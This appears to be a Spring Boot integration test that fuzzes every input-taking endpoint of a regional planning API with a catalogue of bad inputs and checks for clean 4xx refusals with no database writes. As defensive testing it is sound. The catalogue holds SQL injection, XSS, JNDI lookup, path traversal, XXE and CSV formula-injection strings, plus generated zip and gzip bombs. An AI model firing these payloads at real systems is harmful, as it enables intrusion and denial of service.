package id.matagaruda;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DatabaseMetaData;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Properties;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.sql.DataSource;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.core.io.Resource;
import org.springframework.core.io.support.PathMatchingResourcePatternResolver;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.test.context.ContextConfiguration;
import org.springframework.test.context.TestPropertySource;
import org.springframework.util.unit.DataSize;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.ObjectMapper;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Every API operation that takes input, read from the OpenAPI document so a new endpoint is covered without editing
 * this test, is sent a catalogue of bad inputs over a real HTTP connection (multipart and content types are parsed by
 * Tomcat, as in production). Every answer must be a 4xx problem detail in the caller's language, and a refused
 * request must leave every application table and the evidence store as they were.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@ActiveProfiles("demo")
@ContextConfiguration(initializers = TestDatabase.class)
@TestPropertySource(properties = {
        "matagaruda.events.lake=target/test-data/lake-catalogue",
        // A small upload limit keeps "just above the limit" cheap on the wire; the rule tested is the same at 25 MB.
        "spring.servlet.multipart.max-file-size=2MB", "spring.servlet.multipart.max-request-size=2MB"})
@Tag("database")
class BadInputCatalogueTest {

    static final Set<Integer> ALLOWED = Set.of(400, 401, 403, 404, 405, 409, 413, 415, 422);
    static final String ADMIN = "pusat.admin";
    static final String PASSWORD = "demo-garuda";
    static final ObjectMapper JSON = new ObjectMapper();
    static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    @LocalServerPort int port;
    @Autowired DataSource dataSource;
    @Value("${spring.servlet.multipart.max-request-size}") DataSize maxUpload;
    @Value("${matagaruda.data-dir}") Path dataDir;

    final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(5)).build();

    /** One request of the catalogue: which operation, which bad input, and the bytes sent. */
    record Probe(String operation, String input, String method, String path, String contentType, byte[] body) {}

    record Answer(int status, String contentType, String body, String location) {}

    record Failure(String operation, String input, int status, String why, String excerpt) {
        String key() {
            return operation + " | " + input;
        }
    }

    /** An operation of the OpenAPI document with what it declares to take. */
    record Operation(String method, String template, List<JsonNode> pathParams, List<JsonNode> queryParams,
            Map<String, JsonNode> bodies) {
        String name() {
            return method + " " + template;
        }
    }

    final Set<String> catalogue = new TreeSet<>();
    final List<Failure> failures = new ArrayList<>();
    final Map<String, Integer> statusCounts = new TreeMap<>();
    int sent;
    int fivexx;
    int englishSamples;
    String token;
    Map<String, String> idSamples = new LinkedHashMap<>();
    Set<String> indonesianTitles;
    Set<String> englishTitles;

    @Test
    void everyOperationThatTakesInputRefusesTheCatalogueWithAProblemDetailAndWritesNothing() throws Exception {
        token = createToken();
        loadTitles();
        loadIdSamples();
        List<Operation> operations = operations();
        assertThat(operations).as("operations read from /v3/api-docs").hasSizeGreaterThan(20);

        long started = System.nanoTime();
        Map<String, Long> millis = new LinkedHashMap<>();
        for (Operation op : operations) {
            long t0 = System.nanoTime();
            for (Probe probe : probes(op)) {
                send(probe);
            }
            millis.put(op.name(), Duration.ofNanos(System.nanoTime() - t0).toMillis());
        }
        long seconds = Duration.ofNanos(System.nanoTime() - started).toSeconds();

        System.out.println();
        System.out.println("=== Bad-input catalogue (" + (TestDatabase.postgres() ? "PostgreSQL" : "H2") + ") ===");
        System.out.println("catalogue size (distinct bad inputs): " + catalogue.size());
        System.out.println("operations covered: " + operations.size());
        operations.forEach(o -> System.out.println("  " + o.name() + " (" + millis.get(o.name()) + " ms)"));
        System.out.println("requests sent: " + sent + " in " + seconds + " s (English samples: " + englishSamples + ")");
        System.out.println("statuses: " + statusCounts);
        System.out.println("5xx seen: " + fivexx);
        System.out.println("failures: " + failures.size());
        for (Failure f : failures) {
            System.out.println("  " + f.key() + " -> " + f.status() + " " + f.why() + " :: " + f.excerpt());
        }
        assertThat(failures).as("requests answered outside the contract (see the summary above)").isEmpty();
    }

    // ---------------------------------------------------------------------------------------------- the operations

    private List<Operation> operations() throws Exception {
        Answer docs = exchange("GET", "/v3/api-docs", null, null, "id");
        assertThat(docs.status()).as("/v3/api-docs").isEqualTo(200);
        JsonNode root = JSON.readTree(docs.body());
        List<Operation> out = new ArrayList<>();
        for (Map.Entry<String, JsonNode> path : root.get("paths").properties()) {
            for (Map.Entry<String, JsonNode> m : path.getValue().properties()) {
                String method = m.getKey().toUpperCase(Locale.ROOT);
                JsonNode op = m.getValue();
                List<JsonNode> pathParams = new ArrayList<>();
                List<JsonNode> queryParams = new ArrayList<>();
                for (JsonNode p : op.path("parameters")) {
                    if ("path".equals(p.path("in").asString())) {
                        pathParams.add(p);
                    } else if ("query".equals(p.path("in").asString())) {
                        queryParams.add(p);
                    }
                }
                Map<String, JsonNode> bodies = new LinkedHashMap<>();
                for (Map.Entry<String, JsonNode> c : op.path("requestBody").path("content").properties()) {
                    bodies.put(c.getKey(), resolve(root, c.getValue().path("schema")));
                }
                boolean takesInput = !method.equals("GET") || !pathParams.isEmpty() || !queryParams.isEmpty();
                if (takesInput && !method.equals("HEAD") && !method.equals("OPTIONS")) {
                    out.add(new Operation(method, path.getKey(), pathParams, queryParams, bodies));
                }
            }
        }
        return out;
    }

    private JsonNode resolve(JsonNode root, JsonNode schema) {
        if (schema.has("$ref")) {
            String name = schema.get("$ref").asString().replace("#/components/schemas/", "");
            return resolve(root, root.path("components").path("schemas").path(name));
        }
        if (schema.has("properties")) {
            ObjectNode copy = (ObjectNode) schema.deepCopy();
            ObjectNode props = (ObjectNode) copy.get("properties");
            for (String name : new ArrayList<>(props.propertyNames())) {
                JsonNode p = props.get(name);
                if (p.has("$ref")) {
                    props.set(name, resolve(root, p));
                }
            }
            return copy;
        }
        return schema;
    }

    // ------------------------------------------------------------------------------------------------ the catalogue

    static final List<String> INJECTIONS = List.of("' OR 1=1 --", "<script>alert(1)</script>", "${jndi:ldap://x/a}",
            "../../etc/passwd");

    private List<Probe> probes(Operation op) throws IOException {
        List<Probe> out = new ArrayList<>();
        String path = fill(op, Map.of());
        // bad path parameters, one parameter at a time
        for (JsonNode p : op.pathParams()) {
            String name = p.get("name").asString();
            Map<String, String> badPath = new LinkedHashMap<>();
            badPath.put("path:non-numeric", "abc");
            badPath.put("path:huge", "99999999999999999999999");
            badPath.put("path:unknown code", "ZZ.99.99");
            badPath.put("path:traversal", "..%2F..%2Fetc%2Fpasswd");
            badPath.put("path:dot-dot", "..");
            badPath.put("path:nul", "a%00b");
            badPath.put("path:injection", enc("' OR 1=1 --"));
            badPath.put("path:long", "x".repeat(2000));
            for (Map.Entry<String, String> bad : badPath.entrySet()) {
                out.add(probe(op, bad.getKey() + " (" + name + ")", fill(op, Map.of(name, bad.getValue())),
                        defaultContentType(op), defaultBody(op)));
            }
        }
        // bad query parameters, one at a time, the others left out
        for (JsonNode q : op.queryParams()) {
            String name = q.get("name").asString();
            Map<String, String> badQuery = new LinkedHashMap<>();
            badQuery.put("query:empty", "");
            badQuery.put("query:non-numeric", "lima");
            badQuery.put("query:huge", "99999999999999999999999");
            badQuery.put("query:1e400", "1e400");
            badQuery.put("query:injection", "' OR 1=1 --");
            badQuery.put("query:traversal", "../../etc/passwd");
            badQuery.put("query:long", "x".repeat(4000));
            for (Map.Entry<String, String> bad : badQuery.entrySet()) {
                String q1 = path + "?" + enc(name) + "=" + enc(bad.getValue());
                out.add(probe(op, bad.getKey() + " (" + name + ")", q1, defaultContentType(op), defaultBody(op)));
            }
        }
        if (op.method().equals("GET") || op.method().equals("DELETE")) {
            return out;
        }
        // wrong content types, whatever the operation takes
        out.add(probe(op, "content-type:text/plain", path, "text/plain", bytes("bukan isi yang diharapkan")));
        out.add(probe(op, "content-type:application/xml", path, "application/xml",
                bytes("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>")));
        out.add(probe(op, "content-type:garbage", path, "ini/bukan;;tipe", bytes("x")));
        out.add(probe(op, "content-type:none", path, null, bytes("{}")));
        if (!op.bodies().containsKey("application/x-www-form-urlencoded")) {
            out.add(probe(op, "content-type:form", path, "application/x-www-form-urlencoded", bytes("a=1&b=%ZZ")));
        }
        if (op.bodies().isEmpty()) {
            out.add(probe(op, "unexpected body:json array", path, "application/json", bytes("[1,2,3]")));
            return out;
        }
        for (Map.Entry<String, JsonNode> body : op.bodies().entrySet()) {
            String type = body.getKey();
            if (type.contains("json") && !type.contains("ndjson")) {
                out.addAll(jsonProbes(op, path, type, body.getValue()));
            } else if (type.startsWith("multipart/")) {
                out.addAll(multipartProbes(op, path, body.getValue()));
            } else {
                out.addAll(rawProbes(op, path, type));
            }
        }
        if (!op.bodies().keySet().stream().anyMatch(t -> t.startsWith("multipart/"))) {
            out.add(probe(op, "content-type:multipart where not taken", path, "multipart/form-data; boundary=b",
                    bytes("--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.csv\"\r\n\r\na\r\n--b--\r\n")));
        }
        if (!op.bodies().containsKey("application/json")) {
            out.add(probe(op, "content-type:json where not taken", path, "application/json", bytes("{\"a\":1}")));
        }
        return out;
    }

    private List<Probe> jsonProbes(Operation op, String path, String type, JsonNode schema) throws IOException {
        List<Probe> out = new ArrayList<>();
        ObjectNode valid = sampleObject(schema);
        String validText = JSON.writeValueAsString(valid);
        out.add(probe(op, "json:empty body", path, type, new byte[0]));
        out.add(probe(op, "json:whitespace only", path, type, bytes("   \n")));
        out.add(probe(op, "json:truncated", path, type, bytes(validText.substring(0, Math.max(1, validText.length() / 2)))));
        out.add(probe(op, "json:trailing garbage", path, type, bytes(validText + " xyz")));
        out.add(probe(op, "json:two documents", path, type, bytes(validText + validText)));
        out.add(probe(op, "json:array for object", path, type, bytes("[" + validText + "]")));
        out.add(probe(op, "json:string for object", path, type, bytes("\"teks\"")));
        out.add(probe(op, "json:number for object", path, type, bytes("1e400")));
        out.add(probe(op, "json:null", path, type, bytes("null")));
        out.add(probe(op, "json:not utf-8", path, type, new byte[] {'{', '"', (byte) 0xC3, (byte) 0x28, '"', ':', '1', '}'}));
        out.add(probe(op, "json:deep nesting", path, type, bytes("[".repeat(5000) + "]".repeat(5000))));
        out.add(probe(op, "json:duplicate keys", path, type, bytes(duplicateKeys(valid))));
        out.add(probe(op, "json:oversize", path, type, oversizeJson()));
        ObjectNode weird = NODES.objectNode();
        weird.put("' OR 1=1 --", "<script>alert(1)</script>");
        out.add(probe(op, "json:injection as key", path, type, bytes(JSON.writeValueAsString(weird))));
        JsonNode props = schema.path("properties");
        for (String field : props.propertyNames()) {
            JsonNode fieldSchema = props.get(field);
            String t = fieldSchema.path("type").asString("");
            boolean numeric = t.equals("number") || t.equals("integer") || t.isEmpty() || field.equals("value");
            Map<String, String> bad = new LinkedHashMap<>();
            if (numeric) {
                for (String n : List.of("1e400", "-1e400", "1e-400", "99.99999999999999999", "9223372036854775808")) {
                    bad.put("json:number " + n, n);
                }
                bad.put("json:string in number field", "\"lima\"");
                bad.put("json:comma decimal text", "\"12,5.3\"");
            }
            if (!t.equals("string") || field.equals("value")) {
                bad.put("json:object in field", "{\"a\":1}");
            }
            bad.put("json:array in field", "[1,2]");
            bad.put("json:null in field", "null");
            if (!numeric || t.isEmpty()) {
                for (String s : INJECTIONS) {
                    bad.put("json:injection " + s.replace("\u0000", "\\0"), JSON.writeValueAsString(s));
                }
                bad.put("json:long string", JSON.writeValueAsString("x".repeat(100_000)));
            }
            for (Map.Entry<String, String> b : bad.entrySet()) {
                String text = validText.replaceFirst(Pattern.quote("\"" + field + "\":") + "("
                                + Pattern.quote(JSON.writeValueAsString(valid.get(field))) + ")",
                        Matcher.quoteReplacement("\"" + field + "\":" + b.getValue()));
                out.add(probe(op, b.getKey() + " (" + field + ")", path, type, bytes(text)));
            }
            ObjectNode missing = valid.deepCopy();
            missing.remove(field);
            out.add(probe(op, "json:missing field (" + field + ")", path, type, bytes(JSON.writeValueAsString(missing))));
        }
        return out;
    }

    private String duplicateKeys(ObjectNode valid) throws IOException {
        if (valid.isEmpty()) {
            return "{\"a\":1,\"a\":\"b\"}";
        }
        String first = valid.propertyNames().iterator().next();
        String text = JSON.writeValueAsString(valid);
        return text.substring(0, text.length() - 1) + ",\"" + first + "\":{\"x\":[1e400]}}";
    }

    private byte[] oversizeJson() {
        int size = (int) maxUpload.toBytes() + 1024;
        StringBuilder sb = new StringBuilder(size + 16).append('[');
        while (sb.length() < size) {
            sb.append("1e400,");
        }
        return bytes(sb.append("0]").toString());
    }

    private List<Probe> multipartProbes(Operation op, String path, JsonNode schema) throws IOException {
        List<Probe> out = new ArrayList<>();
        JsonNode props = schema.path("properties");
        String fileField = "file";
        List<String> textFields = new ArrayList<>();
        for (String f : props.propertyNames()) {
            if ("binary".equals(props.get(f).path("format").asString(""))) {
                fileField = f;
            } else {
                textFields.add(f);
            }
        }
        String b = "----katalog" + Math.abs(op.name().hashCode());
        String mp = "multipart/form-data; boundary=" + b;
        Map<String, String> fields = new LinkedHashMap<>();
        for (String f : textFields) {
            fields.put(f, sampleText(f, props.get(f)));
        }
        final String ff = fileField;
        java.util.function.BiFunction<String, byte[], byte[]> withFile = (name, content) ->
                multipart(b, fields, ff, name, content);

        out.add(probe(op, "multipart:no boundary", path, "multipart/form-data", withFile.apply("a.csv", bytes("a,b\n1,2\n"))));
        byte[] whole = withFile.apply("a.csv", bytes("a,b\n1,2\n"));
        out.add(probe(op, "multipart:truncated", path, mp, java.util.Arrays.copyOf(whole, whole.length - 12)));
        out.add(probe(op, "multipart:boundary never closed", path, mp,
                bytes("--" + b + "\r\nContent-Disposition: form-data; name=\"" + ff + "\"; filename=\"a.csv\"\r\n\r\na,b\n")));
        out.add(probe(op, "multipart:wrong boundary", path, mp, multipart("lain", fields, ff, "a.csv", bytes("a\n"))));
        out.add(probe(op, "multipart:no parts", path, mp, bytes("--" + b + "--\r\n")));
        out.add(probe(op, "multipart:empty body", path, mp, new byte[0]));
        out.add(probe(op, "multipart:missing file part", path, mp, multipart(b, fields, null, null, null)));
        if (!fields.isEmpty()) {
            out.add(probe(op, "multipart:missing text parts", path, mp, multipart(b, Map.of(), ff, "a.csv", bytes("a\n"))));
        }
        out.add(probe(op, "multipart:part without name", path, mp,
                bytes("--" + b + "\r\nContent-Disposition: form-data; filename=\"a.csv\"\r\n\r\na\r\n--" + b + "--\r\n")));
        out.add(probe(op, "multipart:empty file", path, mp, withFile.apply("a.csv", new byte[0])));
        out.add(probe(op, "file:traversal name", path, mp, withFile.apply("../../etc/passwd", bytes("root:x:0:0\n"))));
        out.add(probe(op, "file:traversal name windows", path, mp, withFile.apply("..\\..\\windows\\win.ini", bytes("a\n"))));
        out.add(probe(op, "file:nul in name", path, mp, withFile.apply("a.csv\u0000.exe", bytes("a\n"))));
        out.add(probe(op, "file:long name", path, mp, withFile.apply("x".repeat(5000) + ".csv", bytes("a\n"))));
        out.add(probe(op, "file:script name", path, mp, withFile.apply("<script>alert(1)</script>.csv", bytes("a\n"))));
        out.add(probe(op, "csv:unclosed quote", path, mp, withFile.apply("data.csv",
                bytes("kode_wilayah,tahun,indikator,nilai\n\"32.73,2024,x,1\n32.01,2024,x,2\n"))));
        out.add(probe(op, "csv:wrong columns", path, mp, withFile.apply("data.csv", bytes("a;b\n1;2;3;4\n\n,,,,,,\n"))));
        out.add(probe(op, "csv:numbers 1e400 and text", path, mp, withFile.apply("data.csv",
                bytes("kode_wilayah,tahun,indikator,nilai\n32.73,1e400,x,1e400\n32.01,2024,x,lima\n32.02,99999999999,x,-1e400\n"))));
        out.add(probe(op, "csv:injection cells", path, mp, withFile.apply("data.csv",
                bytes("kode_wilayah,tahun,indikator,nilai\n' OR 1=1 --,=cmd|' /C calc'!A0,<script>,${jndi:ldap://x}\n"))));
        out.add(probe(op, "csv:binary garbage", path, mp, withFile.apply("data.csv", garbage(4096))));
        out.add(probe(op, "xlsx:not a zip", path, mp, withFile.apply("data.xlsx", bytes("bukan xlsx"))));
        out.add(probe(op, "xlsx:zip bomb", path, mp, withFile.apply("data.xlsx", zipBomb())));
        out.add(probe(op, "jsonl.gz:gzip bomb", path, mp, withFile.apply("data.jsonl.gz", gzipBomb())));
        out.add(probe(op, "gz:truncated gzip", path, mp, withFile.apply("data.csv.gz",
                java.util.Arrays.copyOf(gzip(bytes("a,b\n1,2\n".repeat(100))), 20))));
        out.add(probe(op, "pdf:fake pdf", path, mp, withFile.apply("data.pdf", bytes("%PDF-1.4\n<script>"))));
        byte[] over = new byte[(int) maxUpload.toBytes() + 1024];
        java.util.Arrays.fill(over, (byte) 'a');
        out.add(probe(op, "multipart:oversize", path, mp, withFile.apply("besar.csv", over)));
        for (String f : textFields) {
            for (String s : List.of("' OR 1=1 --", "${jndi:ldap://x/a}", "x".repeat(10_000))) {
                Map<String, String> bad = new LinkedHashMap<>(fields);
                bad.put(f, s);
                String label = s.length() > 50 ? "long string" : s;
                out.add(probe(op, "multipart:field " + label + " (" + f + ")", path, mp,
                        multipart(b, bad, ff, "a.csv", bytes("a,b\n1,2\n"))));
            }
        }
        return out;
    }

    private List<Probe> rawProbes(Operation op, String path, String type) throws IOException {
        List<Probe> out = new ArrayList<>();
        out.add(probe(op, "raw:empty body", path, type, new byte[0]));
        out.add(probe(op, "raw:binary garbage", path, type, garbage(4096)));
        out.add(probe(op, "raw:unclosed quote", path, type, bytes("{\"id\":\"a\n\"text\":\"tidak ditutup\n")));
        out.add(probe(op, "raw:gzip bomb", path, type, gzipBomb()));
        byte[] over = new byte[(int) maxUpload.toBytes() + 1024];
        java.util.Arrays.fill(over, (byte) '\n');
        out.add(probe(op, "raw:oversize", path, type, over));
        return out;
    }

    private Probe probe(Operation op, String input, String path, String contentType, byte[] body) {
        catalogue.add(input.replaceAll(" \\([^)]*\\)$", ""));
        return new Probe(op.name(), input, op.method(), path, contentType, body);
    }

    private static byte[] multipart(String boundary, Map<String, String> fields, String fileField, String fileName,
            byte[] content) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (Map.Entry<String, String> f : fields.entrySet()) {
            out.writeBytes(bytes("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + f.getKey()
                    + "\"\r\n\r\n" + f.getValue() + "\r\n"));
        }
        if (fileField != null) {
            out.writeBytes(bytes("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + fileField
                    + "\"; filename=\"" + fileName.replace("\"", "") + "\"\r\nContent-Type: application/octet-stream\r\n\r\n"));
            out.writeBytes(content);
            out.writeBytes(bytes("\r\n"));
        }
        out.writeBytes(bytes("--" + boundary + "--\r\n"));
        return out.toByteArray();
    }

    /** About 64 MB of zeros in an .xlsx-named zip: a few hundred kilobytes on the wire. */
    private static byte[] zipBomb() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write(bytes("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"));
            zip.closeEntry();
            zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
            byte[] zeros = new byte[1 << 20];
            for (int i = 0; i < 64; i++) {
                zip.write(zeros);
            }
            zip.closeEntry();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return bytes.toByteArray();
    }

    /** About 64 MB of newlines, gzipped. */
    private static byte[] gzipBomb() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(bytes)) {
            byte[] lines = new byte[1 << 20];
            java.util.Arrays.fill(lines, (byte) '\n');
            for (int i = 0; i < 64; i++) {
                gz.write(lines);
            }
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] gzip(byte[] content) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(bytes)) {
            gz.write(content);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] garbage(int n) {
        byte[] b = new byte[n];
        new java.util.Random(12).nextBytes(b);
        return b;
    }

    // ----------------------------------------------------------------------------------- sample (valid-ish) values

    private ObjectNode sampleObject(JsonNode schema) {
        ObjectNode o = NODES.objectNode();
        JsonNode props = schema.path("properties");
        for (String name : props.propertyNames()) {
            JsonNode p = props.get(name);
            String t = name.equals("value") ? "value" : p.path("type").asString("");
            switch (t) {
                case "value" -> o.put(name, 50);
                case "integer" -> o.put(name, name.equals("version") ? 0 : 1);
                case "number" -> o.put(name, 1.5);
                case "boolean" -> o.put(name, false);
                case "array" -> o.set(name, NODES.arrayNode());
                case "object" -> o.set(name, NODES.objectNode());
                case "string" -> o.put(name, sampleText(name, p));
                default -> {
                    if (name.equals("value")) {
                        o.put(name, 50);
                    } else {
                        o.put(name, sampleText(name, p));
                    }
                }
            }
        }
        return o;
    }

    private static String sampleText(String name, JsonNode schema) {
        if (schema != null && schema.has("default")) {
            return schema.get("default").asString();
        }
        if (schema != null && schema.path("enum").isArray() && !schema.path("enum").isEmpty()) {
            return schema.path("enum").get(0).asString();
        }
        return switch (name) {
            case "indicator", "kodeNasional" -> "POLPUM-07";
            case "kodeDaerah" -> "RPJMD-32.73-01";
            case "region", "regionKode", "kodeWilayah", "parent" -> "32.73";
            case "period" -> "2025-S1";
            case "keputusan" -> "ditolak";
            case "level" -> "provinsi";
            case "url" -> "https://example.org/dukung.pdf";
            case "type" -> "laporan";
            case "lat" -> "-6.9";
            case "lon" -> "107.6";
            default -> "catatan uji";
        };
    }

    private String fill(Operation op, Map<String, String> overrides) {
        String path = op.template();
        for (JsonNode p : op.pathParams()) {
            String name = p.get("name").asString();
            String value = overrides.containsKey(name) ? overrides.get(name) : samplePath(op.template(), name);
            path = path.replace("{" + name + "}", value).replace("{*" + name + "}", value);
        }
        return path;
    }

    private String samplePath(String template, String name) {
        for (Map.Entry<String, String> e : idSamples.entrySet()) {
            if (template.startsWith(e.getKey()) && template.contains("{" + name + "}")) {
                return e.getValue();
            }
        }
        return switch (name) {
            case "kode" -> "32.73";
            case "sha256" -> "0".repeat(64);
            case "job" -> "00000000-0000-0000-0000-000000000000";
            case "sumber" -> "report";
            default -> "1";
        };
    }

    private void loadIdSamples() throws Exception {
        idSamples.put("/api/v1/realizations/{id}", one("select max(id) from realization", "1"));
        idSamples.put("/api/v1/indicators/{kode}", "POLPUM-07");
        idSamples.put("/api/v1/indices/{id}", "idi");
        idSamples.put("/api/v1/plans/{id}", one("select max(id) from indicator_plan", "1"));
        idSamples.put("/api/v1/alerts/{id}", one("select max(id) from risk_alert", "1"));
        idSamples.put("/api/v1/participation/datasets/{id}", one("select max(id) from participation_dataset", "1"));
        idSamples.put("/api/v1/risk/regions/{kode}", "32");
        // never the token this test signs in with
        idSamples.put("/api/v1/me/tokens/{id}", "999999");
    }

    private String one(String sql, String fallback) throws Exception {
        try (Connection c = dataSource.getConnection(); Statement s = c.createStatement(); ResultSet rs = s.executeQuery(sql)) {
            return rs.next() && rs.getObject(1) != null ? String.valueOf(rs.getLong(1)) : fallback;
        }
    }

    static final String DEFAULT_BOUNDARY = "katalog-bawaan";

    /** The body sent while a path or query parameter is the bad input: a well-formed one of the declared type. */
    private static String defaultContentType(Operation op) {
        String type = op.bodies().isEmpty() ? null : op.bodies().keySet().iterator().next();
        return type != null && type.startsWith("multipart/") ? type + "; boundary=" + DEFAULT_BOUNDARY : type;
    }

    private byte[] defaultBody(Operation op) {
        String type = defaultContentType(op);
        if (type == null) {
            return null;
        }
        if (type.startsWith("multipart/")) {
            JsonNode props = op.bodies().get(type.substring(0, type.indexOf(';'))).path("properties");
            Map<String, String> fields = new LinkedHashMap<>();
            String fileField = "file";
            for (String f : props.propertyNames()) {
                if ("binary".equals(props.get(f).path("format").asString(""))) {
                    fileField = f;
                } else {
                    fields.put(f, sampleText(f, props.get(f)));
                }
            }
            return multipart(DEFAULT_BOUNDARY, fields, fileField, "data.csv",
                    bytes("kode_wilayah,tahun,indikator,nilai\n32.73,2024,x,1\n"));
        }
        if (type.contains("json") && !type.contains("ndjson")) {
            try {
                return bytes(JSON.writeValueAsString(sampleObject(op.bodies().get(type))));
            } catch (Exception e) {
                return bytes("{}");
            }
        }
        return null;
    }

    // -------------------------------------------------------------------------------------- sending and checking

    private void send(Probe probe) throws Exception {
        // Every seventh request asks for English: the problem detail must follow the caller's language.
        String language = sent % 7 == 3 ? "en" : "id";
        if (language.equals("en")) {
            englishSamples++;
        }
        Map<String, Long> before = snapshot();
        Answer a;
        try {
            a = exchange(probe.method(), probe.path(), probe.contentType(), probe.body(), language);
        } catch (IOException e) {
            sent++;
            failures.add(new Failure(probe.operation(), probe.input(), -1, "no answer: " + e, ""));
            return;
        }
        sent++;
        statusCounts.merge(String.valueOf(a.status()), 1, Integer::sum);
        if (a.status() >= 500) {
            fivexx++;
        }
        if (a.status() / 100 == 2) {
            settle(a);
            if (probe.input().contains("bomb")) {
                // a compression bomb is never a legitimate success: it must be refused (413 or 415), not stored or queued
                failures.add(new Failure(probe.operation(), probe.input(), a.status(), "bomb accepted",
                        excerpt(a.body())));
            }
            return;
        }
        String why = check(a, language);
        Map<String, Long> after = snapshot();
        if (why == null && !after.equals(before)) {
            why = "partial write: " + diff(before, after);
        }
        if (why != null) {
            failures.add(new Failure(probe.operation(), probe.input(), a.status(), why, excerpt(a.body())));
        }
    }

    private String check(Answer a, String language) {
        if (!ALLOWED.contains(a.status())) {
            return "status " + a.status() + " not in " + new TreeSet<>(ALLOWED);
        }
        if (a.contentType() == null || !a.contentType().startsWith("application/problem+json")) {
            return "not a problem detail (" + a.contentType() + ")";
        }
        JsonNode pd;
        try {
            pd = JSON.readTree(a.body());
        } catch (Exception e) {
            return "problem detail is not JSON";
        }
        String title = pd.path("title").asString("");
        String detail = pd.path("detail").asString("");
        if (title.isBlank() || detail.isBlank()) {
            return "problem detail without title or detail";
        }
        if (pd.path("status").asInt() != a.status()) {
            return "problem detail status " + pd.path("status") + " differs";
        }
        if (Pattern.compile("Exception|java\\.|org\\.springframework|tools\\.jackson|at \\[Source|SQL", Pattern.CASE_INSENSITIVE)
                .matcher(detail).find() && !detail.contains("' OR 1=1")) {
            return "detail leaks internals";
        }
        Set<String> expected = language.equals("en") ? englishTitles : indonesianTitles;
        if (!expected.contains(title) && !fromPattern(title, expected)) {
            return "title '" + title + "' is not from the " + language + " message bundles";
        }
        return null;
    }

    /** A request that legitimately succeeded may start a job: wait until it ends so it writes nothing later. */
    private void settle(Answer a) throws Exception {
        String status = null;
        try {
            JsonNode body = JSON.readTree(a.body());
            if (body.has("status_url")) {
                status = body.get("status_url").asString();
            } else if (a.status() == 202 && body.has("id") && a.location() != null) {
                status = a.location();
            }
        } catch (Exception notJson) {
            // not a job
        }
        if (status == null) {
            return;
        }
        for (int i = 0; i < 600; i++) {
            Answer s = exchange("GET", status, null, null, "id");
            if (s.status() != 200) {
                return;
            }
            JsonNode job = JSON.readTree(s.body());
            boolean finished = job.has("selesai") ? job.get("selesai").asBoolean()
                    : !job.has("state") || Set.of("done", "failed").contains(job.get("state").asString());
            if (finished) {
                return;
            }
            Thread.sleep(100);
        }
    }

    private Map<String, Long> snapshot() throws Exception {
        Map<String, Long> counts = new TreeMap<>();
        try (Connection c = dataSource.getConnection(); Statement s = c.createStatement()) {
            DatabaseMetaData md = c.getMetaData();
            List<String> tables = new ArrayList<>();
            try (ResultSet rs = md.getTables(null, c.getSchema(), "%", new String[] {"TABLE"})) {
                while (rs.next()) {
                    String t = rs.getString("TABLE_NAME");
                    if (!t.toLowerCase(Locale.ROOT).startsWith("flyway")) {
                        tables.add(t);
                    }
                }
            }
            for (String t : tables) {
                try (ResultSet rs = s.executeQuery("select count(*) from \"" + t + "\"")) {
                    rs.next();
                    counts.put(t, rs.getLong(1));
                }
            }
        }
        assertThat(counts).as("application tables").isNotEmpty();
        counts.put("<evidence files>", files(dataDir.resolve("evidence")));
        return counts;
    }

    private static long files(Path dir) throws IOException {
        if (!Files.isDirectory(dir)) {
            return 0;
        }
        try (Stream<Path> s = Files.walk(dir)) {
            return s.filter(Files::isRegularFile).count();
        }
    }

    private static String diff(Map<String, Long> before, Map<String, Long> after) {
        StringBuilder sb = new StringBuilder();
        for (String k : after.keySet()) {
            if (!after.get(k).equals(before.get(k))) {
                sb.append(k).append(' ').append(before.get(k)).append("->").append(after.get(k)).append(' ');
            }
        }
        return sb.toString().trim();
    }

    private static String excerpt(String body) {
        String one = body == null ? "" : body.replaceAll("\\s+", " ");
        return one.length() > 220 ? one.substring(0, 220) + "..." : one;
    }

